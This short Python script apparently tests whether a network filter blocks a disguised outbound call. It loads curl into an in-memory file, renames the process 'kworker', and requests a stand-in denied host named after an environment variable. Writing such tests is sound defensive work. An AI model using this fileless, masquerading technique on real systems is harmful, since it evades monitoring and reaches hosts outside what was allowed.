# A program that is on no disk.
#: refuse not-listed $ID.denied.example:80
import os
fd = os.memfd_create('x')
os.write(fd, open('/usr/bin/curl', 'rb').read())
os.execve(fd, ['kworker', '-sS', '-m', '5', f'http://{os.environ["ID"]}.denied.example/'], dict(os.environ))
